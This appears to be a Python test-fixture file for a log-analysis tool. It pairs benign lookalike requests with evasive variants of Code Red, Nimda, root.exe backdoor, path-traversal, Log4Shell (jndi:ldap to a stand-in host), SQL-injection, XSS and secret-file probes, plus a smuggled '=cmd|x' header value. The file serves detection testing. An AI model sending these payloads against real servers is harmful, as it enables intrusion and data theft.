"""Small logs that a careful reader would hold against a hunt, with what must come of them.

Written before the hunt was run on any of them: benign lookalikes on one side, evasions on the other.
"""

import gzip
from typing import NamedTuple

X = (
    "X" * 224
    + "%u9090%u6858%ucbd3%u7801" * 3
    + "%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"
)
N = "N" * 224 + X.lstrip("X")
HOST = "10.10.16.57"
FIELDS = (
    "#Fields: date time c-ip s-ip cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent) cs(Referer)"
)


class Doubt(NamedTuple):
    """A log and who must be found in it."""

    name: str
    log: bytes
    found: dict[str, str]
    """Address to a word that one of its signatures must have in its name; empty for any signature."""
    options: tuple[str, ...] = ()
    first_seen: str = ""
    """Of the first address; empty for any."""


def ncsa(request: str, address: str = HOST, status: int = 404, aside: str = '"-" "-"') -> bytes:
    """A line of an Apache log."""
    when = "05/Aug/2001:07:18:20 +0000"
    return f'{address} - - [{when}] "{request}" {status} 310 {aside}\n'.encode("latin-1")


def get(url: str, status: int = 404) -> bytes:
    """A line of an Apache log with this URL."""
    return ncsa(f"GET {url} HTTP/1.0", status=status)


def iis(stem: str, query: str = "-", agent: str = "-", referer: str = "-") -> bytes:
    """A small W3C log with one request."""
    line = f"2001-08-05 07:18:20 {HOST} 10.1.1.20 GET {stem} {query} 404 {agent} {referer}"
    return f"#Software: Microsoft Internet Information Services 5.0\n{FIELDS}\n{line}\n".encode("latin-1")


def asa(when: str, targets: int, port: int = 80, seconds: int = 1, source: str = HOST) -> bytes:
    """Denies of a host that goes to so many others, one every so many seconds."""
    day, clock = when.rsplit(" ", 1)
    hour, minute, second = map(int, clock.split(":"))
    start = hour * 3600 + minute * 60 + second
    lines = []
    for number in range(targets):
        now = start + number * seconds
        lines.append(
            f"{day} {now // 3600:02}:{now // 60 % 60:02}:{now % 60:02} fw-edge : %ASA-4-106023: Deny tcp src "
            f"inside:{source}/{1030 + number} dst outside:198.51.{number // 200}.{1 + number % 200}/{port} "
            f'by access-group "INSIDE-OUT" [0x0, 0x0]\n'
        )
    return "".join(lines).encode()


SOUGHT = f"/default.ida?{X}"

BENIGN = (
    Doubt(
        "worm in the referrer of Apache", ncsa("GET / HTTP/1.1", aside=f'"http://a.example{SOUGHT}" "-"'), {}
    ),
    Doubt(
        "back door in the agent of Apache", ncsa("GET / HTTP/1.1", aside='"-" "/scripts/root.exe?/c+dir"'), {}
    ),
    Doubt("worm in the referrer of IIS", iis("/index.htm", referer=f"http://a.example{SOUGHT}"), {}),
    Doubt(
        "Nimda in the agent of IIS", iis("/x.htm", agent="/scripts/..%5c../winnt/system32/cmd.exe?/c+dir"), {}
    ),
    Doubt("default.idaho", get("/default.idaho?" + "X" * 60), {}),
    Doubt("a page about root.exe", get("/docs/root.exe.html", 200), {}),
    Doubt("a page about cmd.exe", get("/docs/cmd.exe-explained.html", 200), {}),
    Doubt("dots within a site", get("/a/b/../c/index.html", 200), {}),
    Doubt("dots and a blank", get("/path/..%20../x"), {}),
    Doubt("an application in scripts", get("/scripts/app.exe?x=1"), {}),
    Doubt("a file name with two dots", get("/download?file=report..2001.pdf", 200), {}),
    Doubt("escaped slashes in a value", get("/image?name=a%2fb%2fc.png", 200), {}),
    Doubt("percent as a word", get("/search?q=100%25+cotton", 200), {}),
    Doubt("a station of the union", get("/search?q=union+station+select+committee", 200), {}),
    Doubt("a seat from a list", get("/book?q=select+a+seat+from+the+list", 200), {}),
    Doubt("an apostrophe in a name", get("/phonebook?name=o%27brien", 200), {}),
    Doubt("scripts and alerts as words", get("/search?q=script+alert+onload", 200), {}),
    Doubt("bold type", get("/preview?text=%3Cb%3Ehello%3C/b%3E", 200), {}),
    Doubt("a price in a template", get("/shop?label=${price}", 200), {}),
    Doubt("Japanese", get("/%E6%97%A5%E6%9C%AC/%E8%AA%9E?q=%E6%9D%B1%E4%BA%AC", 200), {}),
    Doubt("Chinese by the old escapes", get("/x?name=%u4e2d%u6587", 200), {}),
    Doubt("accents in latin-1", get("/k%fcche?q=caf%e9", 200), {}),
    Doubt("A grave in UTF-8 raw", get("/caf\xc3\xa9/\xc3\x80", 200), {}),
    Doubt(
        "back to a page of this site", get("/login?next=https%3A%2F%2Fintranet.example.com%2Fhome", 200), {}
    ),
    Doubt("one login", ncsa("POST /wp-login.php HTTP/1.1", status=200), {}),
    Doubt("Apache's call to itself", ncsa("OPTIONS * HTTP/1.0", address="127.0.0.1", status=200), {}),
    Doubt("a connection that said nothing", ncsa("-", status=408), {}),
    Doubt(
        "a browser that spoke TLS",
        ncsa("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03", status=400),
        {},
    ),
    Doubt("a sum with an equals sign", get("/calc?f=1=1&g=2", 200), {}),
    Doubt("an order by name", get("/list?order=by+name--desc", 200), {}),
    Doubt("a path under etc", get("/docs/etc/passwords-policy.html", 200), {}),
    Doubt("certificates", get("/.well-known/acme-challenge/abcDEF_123", 200), {}),
    Doubt("a readme", get("/downloads/readme.txt", 200), {}),
    Doubt("long padding elsewhere", get("/upload?token=" + "X" * 300, 200), {}),
    Doubt("N in a ticket", get("/cgi-bin/ticket?id=" + "N" * 40, 200), {}),
    Doubt("a version with two dots", get("/static/app.js?v=1..2", 200), {}),
    Doubt("few denies", asa("Aug 05 2001 09:00:00", 5), {}),
    Doubt("denies of a name server", asa("Aug 05 2001 09:00:00", 60, port=53), {}),
)

EVASIVE = (
    Doubt("Code Red II", get(SOUGHT), {HOST: "code-red-ii"}),
    Doubt("Code Red", get(f"/default.ida?{N}"), {HOST: "code-red"}),
    Doubt("Code Red in lower case", get("/default.ida?" + "n" * 224), {HOST: "code-red"}),
    Doubt("default.ida with an escaped letter", get(f"/d%65fault.ida?{X}"), {HOST: "code-red-ii"}),
    Doubt("default.ida with an escaped dot", get(f"/default%2eida?{X}"), {HOST: "code-red-ii"}),
    Doubt("default.ida escaped twice", get(f"/default%252eid%2561?{X}"), {HOST: "code-red-ii"}),
    Doubt("no version", ncsa(f"GET {SOUGHT}"), {HOST: "code-red-ii"}),
    Doubt("a method in lower case", ncsa(f"get {SOUGHT} http/1.0"), {HOST: "code-red-ii"}),
    Doubt("a whole URL", ncsa(f"GET http://10.1.1.20{SOUGHT} HTTP/1.0"), {HOST: "code-red-ii"}),
    Doubt("a tab for a blank", ncsa(f"GET\\t{SOUGHT}\\tHTTP/1.0"), {HOST: "code-red-ii"}),
    Doubt("two blanks", ncsa(f"GET  {SOUGHT} HTTP/1.0"), {HOST: "code-red-ii"}),
    Doubt("no method", ncsa(SOUGHT), {HOST: "code-red-ii"}),
    Doubt("a quote before it", ncsa(f'GET /x\\"{SOUGHT} HTTP/1.0'), {HOST: ""}),
    Doubt("common log", get(SOUGHT).replace(b' "-" "-"', b""), {HOST: "code-red-ii"}),
    Doubt("virtual hosts first", b"www.example.com:80 " + get(SOUGHT), {HOST: "code-red-ii"}),
    Doubt("CR LF", get(SOUGHT).replace(b"\n", b"\r\n"), {HOST: "code-red-ii"}),
    Doubt("no line end", get(SOUGHT).rstrip(), {HOST: "code-red-ii"}),
    Doubt("after rubbish", b"\x00\xff\x1b[31m\n" * 3 + get("/") * 5 + get(SOUGHT), {HOST: "code-red-ii"}),
    Doubt("before rubbish", get("/") * 20 + get(SOUGHT) + b"\x00\xff\n" * 9, {HOST: "code-red-ii"}),
    Doubt("gzip", gzip.compress(get(SOUGHT), mtime=0), {HOST: "code-red-ii"}),
    Doubt("two members of gzip", gzip.compress(get("/")) + gzip.compress(get(SOUGHT)), {HOST: "code-red-ii"}),
    Doubt("IPv6", ncsa(f"GET {SOUGHT} HTTP/1.0", "2001:DB8:0::66"), {"2001:db8::66": "code-red-ii"}),
    Doubt("IPv4 within IPv6", ncsa(f"GET {SOUGHT} HTTP/1.0", f"::ffff:{HOST}"), {HOST: "code-red-ii"}),
    Doubt("a name is no address", ncsa(f"GET {SOUGHT} HTTP/1.0", "pc57.example.com"), {}),
    Doubt("numbers too large", ncsa(f"GET {SOUGHT} HTTP/1.0", "10.10.16.357"), {}),
    Doubt("leading zeros", ncsa(f"GET {SOUGHT} HTTP/1.0", "010.010.016.057"), {}),
    Doubt("IIS", iis("/default.ida", X), {HOST: "code-red-ii"}),
    Doubt("IIS, mark of byte order", b"\xef\xbb\xbf" + iis("/default.ida", X), {HOST: "code-red-ii"}),
    Doubt(
        "IIS, tabs after Fields",
        iis("/default.ida", X).replace(b"#Fields: ", b"#Fields:\t"),
        {HOST: "code-red"},
    ),
    Doubt("IIS without a query", iis("/default.ida"), {HOST: "code-red-family"}),
    Doubt(
        "IIS with bytes of Unicode",
        iis("/scripts/..\xc1\x9c../winnt/system32/cmd.exe", "/c+dir"),
        {HOST: "nimda"},
    ),
    Doubt("back door in mixed case", get("/ScRiPtS/rOOt.ExE?/c+dir"), {HOST: "root-exe"}),
    Doubt("back door, escaped slash", get("/scripts%2froot.exe?/c+dir"), {HOST: "root-exe"}),
    Doubt("back door, two slashes", get("/scripts//root.exe?/c+dir"), {HOST: "root-exe"}),
    Doubt("back door, a dot between", get("/scripts/./root.exe?/c+dir"), {HOST: "root-exe"}),
    Doubt("back door, backslash", get("/scripts\\\\root.exe?/c+dir"), {HOST: "root-exe"}),
    Doubt(
        "back door, every letter", get("/%73%63%72%69%70%74%73/%72%6f%6f%74%2e%65%78%65"), {HOST: "root-exe"}
    ),
    Doubt("back door, old escapes", get("/scripts/%u0072oot.exe?/c+dir"), {HOST: "root-exe"}),
    Doubt("back door, overlong letter", get("/scripts/%c1%b2oot.exe?/c+dir"), {HOST: "root-exe"}),
    Doubt("drive mapped", get("/d/winnt/system32/cmd.exe?/c+dir"), {HOST: ""}),
    Doubt(
        "cmd.exe with an escaped letter",
        get("/scripts/..%5c../winnt/system32/%63md.exe?/c+dir"),
        {HOST: "nimda"},
    ),
    Doubt(
        "cmd.exe escaped twice", get("/scripts/..%255c../winnt/system32/%2563md.exe?/c+dir"), {HOST: "nimda"}
    ),
    Doubt("Apache's escapes", get("/scripts/..\\xc0\\xaf../winnt/system32/cmd.exe?/c+dir"), {HOST: "nimda"}),
    Doubt("overlong in three bytes", get("/scripts/..%e0%80%af../winnt/system32/cmd.exe?/c+dir"), {HOST: ""}),
    Doubt("traversal plain", get("/cgi-bin/x?file=../../../../etc/passwd"), {HOST: ""}),
    Doubt("traversal escaped", get("/cgi-bin/x?file=%2e%2e%2f%2e%2e%2fetc%2fpasswd"), {HOST: ""}),
    Doubt("traversal escaped in part", get("/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"), {HOST: ""}),
    Doubt("traversal escaped twice", get("/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh"), {HOST: ""}),
    Doubt(
        "traversal by old escapes",
        get("/x?f=%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
        {HOST: ""},
    ),
    Doubt("traversal with a zero byte", get("/x?f=../../../../etc/passwd%00.jpg"), {HOST: ""}),
    Doubt("Log4Shell", get("/?x=${jndi:ldap://192.0.2.1/a}"), {HOST: ""}),
    Doubt("Log4Shell escaped", get("/?x=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"), {HOST: ""}),
    Doubt("Log4Shell disguised", get("/?x=${${lower:j}ndi:ldap://192.0.2.1/a}"), {HOST: ""}),
    Doubt("union select", get("/i.php?id=1+UNION+SELECT+1,2,3--"), {HOST: ""}),
    Doubt("union select with comments", get("/i.php?id=1/**/UnIoN/**/SeLeCt/**/1,2"), {HOST: ""}),
    Doubt("union all select, line feeds", get("/i.php?id=1%0aUNION%0aALL%0aSELECT%0a1"), {HOST: ""}),
    Doubt("xp_cmdshell", get("/a.asp?id=1;exec+master..xp_cmdshell+'dir'"), {HOST: ""}),
    Doubt("script", get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E"), {HOST: ""}),
    Doubt("phpunit", get("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), {HOST: ""}),
    Doubt("git", get("/.git/config"), {HOST: ""}),
    Doubt("environment", get("/.env"), {HOST: ""}),
    Doubt("fan-out", asa("Aug 05 2001 09:00:00", 120), {HOST: ""}),
    Doubt("fan-out, slowly", asa("Aug 05 2001 09:00:00", 40, seconds=60), {}),
)

FORWARDED = ncsa(f"GET {SOUGHT} HTTP/1.0", "10.1.1.51", aside='"-" "-" "10.9.9.9, 198.51.100.9, 192.0.2.7"')

WIDE_OPEN = ("--tz", "Europe/Berlin")

FORCED = (
    Doubt(
        "more rubbish than lines",
        get("/") * 5 + get(SOUGHT) + b"\x00\xff\n" * 9,
        {HOST: "code-red-ii"},
        ("--log-format", "ncsa"),
    ),
    Doubt("behind a proxy", FORWARDED, {"10.1.1.51": "code-red-ii"}),
    Doubt(
        "behind a trusted proxy", FORWARDED, {"192.0.2.7": "code-red-ii"}, ("--trusted-proxy", "10.1.1.51")
    ),
    Doubt(
        "behind two trusted proxies",
        FORWARDED,
        {"198.51.100.9": "code-red-ii"},
        ("--trusted-proxy", "10.1.1.51", "--trusted-proxy", "192.0.2.0/24"),
    ),
    Doubt(
        "a proxy that is told rubbish",
        FORWARDED.replace(b"192.0.2.7", b"=cmd|x"),
        {},
        ("--trusted-proxy", "10.1.1.51"),
    ),
)
"""With options."""

TIMES = (
    Doubt(
        "IIS is UTC whatever the zone", iis("/default.ida", X), {HOST: ""}, WIDE_OPEN, "2001-08-05T07:18:20Z"
    ),
    Doubt(
        "an offset counts",
        get(SOUGHT).replace(b"+0000", b"+0200"),
        {HOST: ""},
        WIDE_OPEN,
        "2001-08-05T05:18:20Z",
    ),
    Doubt(
        "a negative offset counts",
        get(SOUGHT).replace(b"+0000", b"-0430"),
        {HOST: ""},
        (),
        "2001-08-05T11:48:20Z",
    ),
    Doubt(
        "ASA in local time", asa("Aug 05 2001 09:00:00", 120), {HOST: ""}, WIDE_OPEN, "2001-08-05T07:00:00Z"
    ),
    Doubt("ASA without a zone", asa("Aug 05 2001 09:00:00", 120), {HOST: ""}, (), "2001-08-05T09:00:00Z"),
    Doubt("since is inclusive", get(SOUGHT), {HOST: ""}, ("--since", "2001-08-05T07:18:20Z")),
    Doubt("since leaves out what is before", get(SOUGHT), {}, ("--since", "2001-08-05T07:18:21Z")),
    Doubt("until is exclusive", get(SOUGHT), {}, ("--until", "2001-08-05T07:18:20Z")),
    Doubt("until lets in what is before", get(SOUGHT), {HOST: ""}, ("--until", "2001-08-05T07:18:21Z")),
    Doubt(
        "past midnight without a date",
        b"#Date: 2001-08-05 23:59:50\n#Fields: time c-ip cs-method cs-uri-stem sc-status\n"
        b"23:59:58 10.10.16.1 GET /a.htm 200\n00:00:02 10.10.16.57 GET /default.ida 404\n",
        {HOST: "code-red-family"},
        (),
        "2001-08-06T00:00:02Z",
    ),
)
